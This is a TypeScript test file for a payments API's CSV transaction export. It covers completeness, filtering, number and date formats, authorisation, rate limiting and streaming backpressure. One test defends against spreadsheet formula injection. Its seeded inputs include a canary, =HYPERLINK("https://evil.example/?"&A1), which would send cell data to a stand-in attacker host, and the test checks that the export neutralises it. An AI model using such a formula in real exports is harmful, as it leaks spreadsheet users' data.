import assert from 'node:assert/strict'
import { get, type IncomingMessage } from 'node:http'
import { after, before, test } from 'node:test'
import { sql } from '../../src/platform/database/sql.ts'
import { createProject } from '../../src/core/projects/create-project.ts'
import { call, openHouse, post, type Answer, type House } from '../support/house.ts'
import { paymentRequest } from '../support/payment-request.ts'
import { readCsv } from '../support/read-csv.ts'
import { waitUntil } from '../support/wait-until.ts'

let house: House
const many = 10_000
const canary = '=HYPERLINK("https://evil.example/?"&A1)'

before(async () => {
  house = await openHouse()
  await createProject(house.db, house.merchantId, { project: '@home' })
  const body = paymentRequest({
    tx_ref: '=1+1',
    amount: '1234.50',
    first_name: canary,
    last_name: '-2+3\'Ünïcode, "quoted"',
    customization: { title: '+44 7700', description: '@SUM(A1)' },
    meta: { note: 'a,b', big: 1 },
    project: '@home',
  })
  assert.equal((await post(`${house.url}/api/payment`, body, house.secretKey)).status, 201)
  // Three of each moment, so that pages end between rows of one moment.
  await house.db.query(sql`
    insert into payments (merchant_id, number, mode, tx_ref, reference, type, state, currency, amount_minor, charge_minor,
      email, first_name, last_name, created_at)
    select ${house.merchantId}::integer, lpad(n::text, 24, '0'), 'test', 'bulk-' || n, 'FLBULK', 'API',
      case when n % 4 = 0 then 'success' else 'pending' end, case when n % 10 = 0 then 'JPY' else 'GBP' end, n, 34,
      'ada@example.com', 'Ada', '', timestamptz '2026-10-01T00:00:00Z' + (n / 3) * interval '1 second'
    from generate_series(1, ${many}::integer) as n`)
})
after(() => house.close())

async function fetchCsv(
  query = '',
  key = house.secretKey,
): Promise<Answer & { rows: Record<string, string>[] }> {
  const answer = await call(`${house.url}/api/transactions.csv${query}`, { key })
  const [names = [], ...lines] = answer.status === 200 ? readCsv(answer.text) : []
  const rows = lines.map((line) => {
    assert.equal(line.length, names.length)
    return Object.fromEntries(names.map((name, index) => [name, line[index] ?? '']))
  })
  return { ...answer, rows }
}

test('10,000 transactions are exported as one file, each once, newest first', async () => {
  const { rows, headers } = await fetchCsv()
  assert.equal(rows.length, many + 1)
  assert.equal(new Set(rows.map((row) => row['tx_ref'])).size, many + 1)
  const times = rows.map((row) => row['created_at'] ?? '')
  assert.deepEqual(times, times.toSorted().toReversed())
  assert.match(headers.get('content-type') ?? '', /^text\/csv; charset=utf-8/)
  assert.equal(headers.get('content-disposition'), 'attachment; filename="transactions.csv"')
  assert.ok(headers.get('x-request-id'))
  assert.equal(headers.get('x-content-type-options'), 'nosniff')
})

test('the file has exactly the list’s rows for the same filters', async () => {
  const filters = [
    '?currency=jpy',
    '?status=success',
    '?tx_ref=bulk-77',
    '?project=@home',
    '?email=nobody@example.com',
  ]
  for (const filter of [...filters, '?created_from=2026-10-01T00:10:00Z&created_to=2026-10-01T00:12:00Z']) {
    const listed: string[] = []
    let url: string | null = `/api/transactions${filter}&limit=100`
    while (url !== null) {
      const answer: Answer = await call(house.url + url, { key: house.secretKey })
      const page = answer.json as unknown as { data: { tx_ref: string }[]; links: { next: string | null } }
      listed.push(...page.data.map(({ tx_ref }) => tx_ref))
      const next: string | null = page.links.next
      url = next === null ? null : new URL(next).pathname + new URL(next).search
    }
    const { rows } = await fetchCsv(filter)
    assert.deepEqual(
      rows.map((row) => row['tx_ref']?.replace(/^'/, '')),
      listed,
      filter,
    )
  }
})

test('no text can start a formula, and nothing else of it changes', async () => {
  const { rows, text } = await fetchCsv('?tx_ref=%3D1%2B1')
  const [row = {}] = rows
  assert.equal(row['first_name'], `'${canary}`)
  assert.equal(row['tx_ref'], "'=1+1")
  assert.equal(row['last_name'], `'-2+3'Ünïcode, "quoted"`)
  assert.equal(row['title'], "'+44 7700")
  assert.equal(row['description'], "'@SUM(A1)")
  assert.equal(row['project'], "'@home")
  assert.equal(row['meta'], '{"note":"a,b","big":1}')
  assert.doesNotMatch(text, /(^|[,"\n])[=+\-@]/)
})

test('amounts are plain decimals and minor units, times are ISO', async () => {
  const { rows } = await fetchCsv('?tx_ref=%3D1%2B1')
  assert.deepEqual([rows[0]?.['amount'], rows[0]?.['amount_minor']], ['1234.50', '123450'])
  // Not paid: nothing was charged.
  assert.deepEqual([rows[0]?.['charge'], rows[0]?.['charge_minor']], ['', ''])
  const paid = await fetchCsv('?tx_ref=bulk-4')
  assert.deepEqual([paid.rows[0]?.['charge'], paid.rows[0]?.['charge_minor']], ['0.34', '34'])
  assert.deepEqual([rows[0]?.['refunded'], rows[0]?.['refunded_minor']], ['0.00', '0'])
  assert.match(rows[0]?.['created_at'] ?? '', /^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{6}Z$/)
  const yen = await fetchCsv('?tx_ref=bulk-1000')
  assert.deepEqual([yen.rows[0]?.['amount'], yen.rows[0]?.['amount_minor']], ['1000', '1000'])
})

test('another mode, another merchant or no key sees none of it, and mistakes use the envelope', async () => {
  assert.equal((await fetchCsv('', house.liveKey)).rows.length, 0)
  assert.equal((await call(`${house.url}/api/transactions.csv`)).status, 401)
  for (const query of ['?limit=10', '?cursor=x', '?status=paid', '?project=none', '?page=2']) {
    const { status, json } = await fetchCsv(query)
    assert.deepEqual([status, json.code], [400, 'validation_failed'], query)
  }
  const head = await call(`${house.url}/api/transactions.csv`, { method: 'HEAD', key: house.secretKey })
  assert.deepEqual([head.status, head.text], [200, ''])
})

test('a client that disconnects stops the work, and a fifth simultaneous export waits', async (t) => {
  const asked = t.mock.method(house.db, 'query').mock
  const wide = 'x'.repeat(7_000)
  await house.db.query(sql`
    update payments set meta = json_build_object('wide', ${wide}::text)
    where merchant_id = ${house.merchantId} and tx_ref like 'bulk-%'`)
  const url = `${house.url}/api/transactions.csv`
  const headers = { authorization: `Bearer ${house.secretKey}` }
  const begin = () =>
    new Promise<IncomingMessage>((resolve, reject) => {
      get(url, { headers, agent: false }, resolve).on('error', reject)
    })
  const open = []
  for (let each = 0; each < 4; each += 1) open.push(await begin())
  const sofar = asked.callCount()
  const refused = await fetchCsv()
  assert.deepEqual([refused.status, refused.json.code], [429, 'rate_limited'])
  assert.ok(refused.headers.get('retry-after'))
  for (const answer of open) answer.destroy()
  await waitUntil('the exports have ended', async () => (await fetchCsv('?tx_ref=bulk-1')).status === 200)
  // Four whole exports would be 21 pages each; those who left had read what fits into their sockets.
  assert.ok(asked.callCount() - sofar < 40, String(asked.callCount() - sofar))
})

test('memory stays flat: a slow reader stops the export from reading ahead', async (t) => {
  const asked = t.mock.method(house.db, 'query').mock
  const url = `${house.url}/api/transactions.csv`
  const headers = { authorization: `Bearer ${house.secretKey}` }
  const answer = await new Promise<IncomingMessage>((resolve, reject) => {
    get(url, { headers, agent: false }, resolve).on('error', reject)
  })
  let settled = asked.callCount()
  await waitUntil('nothing more is read', async () => {
    const statements = asked.callCount()
    const isStill = statements === settled
    settled = statements
    return isStill
  })
  const early = asked.callCount()
  let length = 0
  for await (const chunk of answer) length += (chunk as Buffer).length
  assert.ok(length > many * 7_000)
  assert.ok(asked.callCount() - early > 5, 'the rest was read when it was taken')
})
